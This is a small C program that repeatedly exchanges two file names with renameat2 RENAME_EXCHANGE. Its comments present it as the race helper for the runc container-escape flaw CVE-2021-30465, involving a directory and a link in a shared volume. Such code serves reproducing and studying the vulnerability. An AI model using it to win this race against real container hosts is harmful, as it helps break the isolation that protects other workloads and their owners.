// SPDX-License-Identifier: Apache-2.0
// Exchanges two names (renameat2(2), RENAME_EXCHANGE) as fast as it can until it is killed: what a container
// does with a directory and a link in a shared volume while another one is being started (CVE-2021-30465).
//
//   cc -O1 -o swap swap.c
//   swap NAME OTHER
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  for (;;)
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
      perror("swap");
      return 1;
    }
}
